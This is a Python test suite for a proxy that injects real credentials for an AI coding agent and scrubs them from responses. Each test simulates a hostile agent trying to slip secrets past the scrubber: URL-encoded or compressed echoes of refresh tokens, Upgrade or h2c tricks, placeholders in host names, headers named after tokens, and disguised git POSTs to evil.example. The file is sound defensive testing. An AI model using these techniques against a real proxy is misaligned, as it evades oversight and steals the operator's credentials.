"""What slipped past the scrubber and the honeytoken scan, played by a hostile agent.

* A Codex refresh the agent frames as a form: the proxy renders the real refresh token
  URL-encoded into the body, and an upstream error that quotes the body it got carries that
  rendering back, which the scrubber (told only the raw token) does not know.
* A request to a foreign host that names ``Upgrade`` but carries an ordinary body: the body
  scan skips upgrades, so the session's placeholder leaves in that body unseen.
* An answer that names a header (and a trailer) after the credential it was sent: the
  scrubber masked every header's value, never its name.
* An upgrade to HTTP/2 (``h2c``) with the credential in it: the scrubber reads the raw
  bytes after the switch, and HTTP/2 sends its headers HPACK-coded (Huffman: no byte of the
  credential as it was), so an upstream that echoes it in a header hands it over unseen.
* An answer compressed though the proxy asked for it plain: the scrubber reads plain bytes,
  and the agent's client inflates the token back; a Codex refresh's compressed error, which
  quotes the real refresh token, too.
"""

from __future__ import annotations

import gzip
import json
import zlib
from urllib.parse import quote_plus

import h11
import trio
import trustme
from conftest import SECRETS, Proxy, add_session, client, serve_as
from proxy_fakes import Seen, _Base
from smuggle_fakes import RawTunnel
from test_proxy_controls import KEY, Rig, rig  # noqa: F401 - the rig fixture

from appliance.audit import parse_line
from appliance.placeholders import placeholder_env
from appliance.sessions import AccessMode

#: A refresh token with the characters base64 tokens carry, which a form encodes.
REFRESH = "rt/REAL+REFRESH=CANARY/0123456789"


class BodyEcho(_Base):
    """An OAuth endpoint that refuses the grant, quoting the body it was sent (400)."""

    async def answer(self, stream: trio.abc.Stream, conn: h11.Connection, seen: Seen) -> bool:
        doc = {"error": "invalid_grant", "request": seen.body.decode()}
        await self.reply(stream, conn, 400, json.dumps(doc).encode())
        return True


async def test_a_form_refresh_echo_does_not_hand_back_the_encoded_refresh_token(
        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
    """The agent posts its dummy refresh token as a form; the proxy puts the real one in,
    URL-encoded; the upstream's 400 quotes the body. The agent must not read the token in
    any rendering the proxy itself made."""
    echo = await serve_as(proxy, nursery, BodyEcho(upstream_ca), "auth.openai.com")
    proxy.state.keep_refreshed({"refresh_token": REFRESH})  # as a refresh would have kept
    auth = proxy.add_session("codex-form")
    async with client(proxy, auth) as c:
        r = await c.post("https://auth.openai.com/oauth/token", data={
            "grant_type": "refresh_token", "refresh_token": "DUMMY"})
    assert quote_plus(REFRESH) in echo.seen[0].body.decode()  # what travelled
    assert r.status_code == 400
    assert quote_plus(REFRESH) not in r.text, r.text


async def test_an_upgrade_request_body_is_still_scanned_for_the_placeholder(rig: Rig) -> None:  # noqa: F811
    """``Connection: upgrade`` + ``Upgrade: websocket`` on a POST to a foreign host with the
    session's GitHub placeholder in its body: the upstream just reads the body (it answers
    200, no switch), so the header buys the agent a body nobody scanned."""
    sid, _ = auth = rig.session("sneaky")
    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
    seen = len(rig.echo.seen)
    status, body = await rig.curl(auth, "https://evil.example/c", "-X", "POST",
                                  "-H", "connection: upgrade", "-H", "upgrade: websocket",
                                  "-d", f"k={leak}")
    assert status == 403 and b"placeholder" in body, (status, body)
    assert len(rig.echo.seen) == seen


class BrokenHeadEcho(_Base):
    """An OAuth endpoint whose answer head no parser takes: a header line without a colon
    that quotes the body it was sent (h11's error quotes that line)."""

    async def answer(self, stream: trio.abc.Stream, conn: h11.Connection, seen: Seen) -> bool:
        await stream.send_all(b"HTTP/1.1 400 Bad\r\nquoting " + seen.body + b"\r\n\r\n")
        return False


async def test_a_broken_refresh_answer_does_not_quote_the_real_refresh_token(
        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
    """The proxy's 502 for an answer head it cannot parse quotes h11's error, which quotes
    the head, which quotes the real refresh token the proxy put in the body. The error
    message is masked with the request's secrets, and a refresh has none (its credential
    travels in the body, not a header)."""
    echo = await serve_as(proxy, nursery, BrokenHeadEcho(upstream_ca), "auth.openai.com")
    auth = proxy.add_session("codex-broken")
    async with client(proxy, auth) as c:
        r = await c.post("https://auth.openai.com/oauth/token", json={
            "grant_type": "refresh_token", "refresh_token": "DUMMY"})
    assert SECRETS["codex_refresh_token"] in echo.seen[0].body.decode()  # what travelled
    assert r.status_code == 502
    assert SECRETS["codex_refresh_token"] not in r.text, r.text


async def test_a_placeholder_in_the_host_name_is_a_leak_too(rig: Rig) -> None:  # noqa: F811
    """``GET http://<placeholder>.evil.example/ HTTP/1.0`` and no ``Host`` header (HTTP/1.0
    needs none): the scan reads the path and the headers, so the placeholder the agent put
    in the host name goes out unseen -- in the DNS question, the SNI and the Host header
    the proxy writes for the upstream."""
    import base64
    from dataclasses import replace

    sid, token = rig.session("dns-leak")
    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
    host = f"{leak}.evil.example".lower()
    config = rig.state.config
    rig.state.config = replace(config, upstreams={**config.upstreams,
                                                  host: config.upstreams["evil.example"]})
    rig.state.pool.reconfigure(rig.state.config)
    seen = len(rig.echo.seen)
    creds = base64.b64encode(f"{sid}:{token}".encode()).decode()
    with trio.fail_after(20):
        stream = await trio.open_tcp_stream("127.0.0.1", rig.port)
        await stream.send_all(f"GET http://{host}/c HTTP/1.0\r\n"
                              f"Proxy-Authorization: Basic {creds}\r\n\r\n".encode())
        answer = b""
        while data := await stream.receive_some(65536):
            answer += data
        await stream.aclose()
    assert answer.startswith(b"HTTP/1.1 403"), answer[:200]
    assert len(rig.echo.seen) == seen


class NameEcho(_Base):
    """An API that names a header, and a trailer, after the token it was called with (a
    per-key counter, say)."""

    async def answer(self, stream: trio.abc.Stream, conn: h11.Connection, seen: Seen) -> bool:
        token = "".join(seen.header("authorization")).removeprefix("Bearer ")
        await self.send(stream, conn, h11.Response(status_code=200, headers=[
            ("transfer-encoding", "chunked"), (f"x-calls-{token}", "1")]),
            h11.Data(data=b"ok\n"), h11.EndOfMessage(headers=[(f"x-end-{token}", "1")]))
        return True


async def until_closed(proxy: Proxy, nursery: trio.Nursery, upstream: _Base, host: str,
                       name: str, request: bytes) -> bytes:
    """``upstream`` serving ``host``; ``request`` sent raw in a new session's tunnel to it;
    every byte the agent reads back until the proxy closes the tunnel."""
    await serve_as(proxy, nursery, upstream, host)
    auth = proxy.add_session(name)
    with trio.fail_after(20):
        t = await RawTunnel.open(proxy.port, ":".join(auth), host, proxy.ca_path)
        await t.send(request)
        raw = b""
        while data := await t.tls.receive_some(65536):
            raw += data
        await t.aclose()
    return raw


async def test_a_header_named_after_the_credential_is_masked_too(
        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
    echo = NameEcho(upstream_ca)
    token = SECRETS["github_token"]
    raw = await until_closed(proxy, nursery, echo, "api.github.com", "named", (
        b"GET /rate HTTP/1.1\r\nHost: api.github.com\r\n"
        b"Authorization: Bearer placeholder\r\nTE: trailers\r\nConnection: close\r\n\r\n"))
    assert echo.seen[0].header("authorization") == [f"Bearer {token}"]  # what travelled
    assert token.encode().lower() not in raw.lower(), raw
    assert f"x-calls-{'*' * len(token)}: 1".encode() in raw, raw
    assert f"x-end-{'*' * len(token)}: 1".encode() in raw, raw
    records = [parse_line(x) for x in proxy.audit_path.read_text().splitlines()]
    assert records[-1].note is not None and "masked (2x)" in records[-1].note


class H2cEcho(_Base):
    """An upstream that switches to HTTP/2 on ``Upgrade: h2c`` and answers the upgraded
    request on stream 1 with the ``Authorization`` it got in a header (HPACK, Huffman-coded
    as every HTTP/2 encoder does by default); without the upgrade, a plain 200."""

    async def answer(self, stream: trio.abc.Stream, conn: h11.Connection, seen: Seen) -> bool:
        import hpack

        if seen.header("upgrade") != ["h2c"]:
            await self.reply(stream, conn, 200, b'{"upgraded": false}')
            return True
        await self.send(stream, conn, h11.InformationalResponse(status_code=101, headers=[
            ("connection", "upgrade"), ("upgrade", "h2c")]))
        block = hpack.Encoder().encode([(":status", "200"),
                                        ("x-echo", "".join(seen.header("authorization")))])
        settings = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
        headers = len(block).to_bytes(3, "big") + b"\x01\x05\x00\x00\x00\x01" + block
        await stream.send_all(settings + headers)
        return False


def h2_headers(raw: bytes) -> list[tuple[str, str]]:
    """The header fields of every HEADERS frame in ``raw`` (HTTP/2 frames), decoded."""
    import hpack

    decoder, out, at = hpack.Decoder(), [], 0
    while at + 9 <= len(raw):
        size, kind = int.from_bytes(raw[at:at + 3], "big"), raw[at + 3]
        if kind == 1:
            out += [(str(k), str(v)) for k, v in decoder.decode(raw[at + 9:at + 9 + size])]
        at += 9 + size
    return out


async def test_an_h2c_upgrade_carries_no_credential_the_scrubber_cannot_read(
        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
    echo = H2cEcho(upstream_ca)
    token = SECRETS["openai_api_key"]
    # Read until the proxy closes: after the answer, or after the upstream's frames.
    raw = await until_closed(proxy, nursery, echo, "api.openai.com", "h2c", (
        b"GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\n"
        b"Authorization: Bearer placeholder\r\nConnection: Upgrade, close\r\n"
        b"Upgrade: h2c\r\n\r\n"))
    assert echo.seen[0].header("authorization") == [f"Bearer {token}"]  # injected
    after = raw.partition(b"\r\n\r\n")[2]
    echoed = [v for k, v in h2_headers(after) if k == "x-echo"] if raw.startswith(
        b"HTTP/1.1 101") else []
    assert not any(token in v for v in echoed), echoed
    assert raw.startswith(b"HTTP/1.1 200 "), raw[:300]
    assert echo.seen[0].header("upgrade") == []


async def test_a_read_only_session_posts_nothing_dressed_as_a_fetch(rig: Rig) -> None:  # noqa: F811
    """A read-only session may fetch with git, whose negotiation is a POST to a path ending
    in ``git-upload-pack``. The agent posts a form to such a path on a host that is no git
    server: a write, refused; git's own negotiation, the same path, passes."""
    sid, _ = auth = add_session(rig.store, "reader", AccessMode.READ_ONLY)
    seen = len(rig.echo.seen)
    status, body = await rig.curl(auth, "https://evil.example/drop/git-upload-pack",
                                  "-X", "POST", "-d", f"notes=everything-{sid}")
    assert status == 403 and b"read-only" in body, (status, body)
    assert len(rig.echo.seen) == seen
    status, _ = await rig.curl(auth, "https://evil.example/repo.git/git-upload-pack", "-X",
                               "POST", "-H", "content-type: application/x-git-upload-pack-request",
                               "--data-binary", "0000")
    assert status == 200 and len(rig.echo.seen) == seen + 1


class CodedEcho(_Base):
    """A service that quotes the ``Authorization`` and the body it got in a JSON error,
    compressed (deflate for ``/deflate``, else gzip), whatever the request asked for."""

    async def answer(self, stream: trio.abc.Stream, conn: h11.Connection, seen: Seen) -> bool:
        doc = json.dumps({"message": "Bad credentials", "body": seen.body.decode(),
                          "got": "".join(seen.header("authorization"))}).encode()
        coding = "deflate" if seen.target == "/deflate" else "gzip"
        body = gzip.compress(doc) if coding == "gzip" else zlib.compress(doc)
        await self.send(stream, conn, h11.Response(status_code=401, headers=[
            ("content-type", "application/json"), ("content-encoding", coding),
            ("content-length", str(len(body)))]), h11.Data(data=body), h11.EndOfMessage())
        return True


async def coded_echo(proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA,
                     host: str) -> CodedEcho:
    """A :class:`CodedEcho` the proxy sends ``host``'s requests to."""
    return await serve_as(proxy, nursery, CodedEcho(upstream_ca), host)


async def test_an_answer_compressed_all_the_same_does_not_hand_back_the_credential(
        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
    """The proxy asks for the answer uncompressed; a service that compresses it anyway
    would carry the token past the masking, which reads plain bytes, to the agent's
    client, which inflates it."""
    echo = await coded_echo(proxy, nursery, upstream_ca, "api.github.com")
    token = SECRETS["github_token"]
    auth = proxy.add_session("inflater")
    async with client(proxy, auth) as c:
        answers = [await c.get(f"https://api.github.com/{coding}")
                   for coding in ("gzip", "deflate")]
    for r in answers:  # the harm first: what the agent's client reads
        assert token not in r.text, r.text
    assert [s.header("authorization") for s in echo.seen] == [[f"Bearer {token}"]] * 2
    assert [s.header("accept-encoding") for s in echo.seen] == [["identity"]] * 2
    assert [(r.status_code, r.headers["x-proxy-error-type"]) for r in answers] == [
        (502, "UPSTREAM_PROTOCOL_ERROR")] * 2
    assert all("compressed" in r.text for r in answers)
    records = [parse_line(x) for x in proxy.audit_path.read_text().splitlines()]
    assert [(r.path, r.status, r.error) for r in records[-2:]] == [
        ("/gzip", 502, "UPSTREAM_PROTOCOL_ERROR"), ("/deflate", 502, "UPSTREAM_PROTOCOL_ERROR")]


async def test_a_refresh_error_compressed_all_the_same_does_not_hand_back_the_refresh_token(
        proxy: Proxy, nursery: trio.Nursery, upstream_ca: trustme.CA) -> None:
    """The refresh's answer is read whole and its tokens rewritten, so a compressed 200 was
    refused; a compressed error quoting the body the proxy sent (the real refresh token in
    it) went to the agent, whose client inflated it."""
    echo = await coded_echo(proxy, nursery, upstream_ca, "auth.openai.com")
    real = SECRETS["codex_refresh_token"]
    auth = proxy.add_session("codex-inflater")
    async with client(proxy, auth) as c:
        r = await c.post("https://auth.openai.com/oauth/token", json={
            "grant_type": "refresh_token", "refresh_token": "DUMMY"})
    assert real not in r.text, r.text  # the harm first
    assert real in echo.seen[0].body.decode()  # what travelled
    assert (r.status_code, r.headers["x-proxy-error-type"]) == (502, "UPSTREAM_PROTOCOL_ERROR")
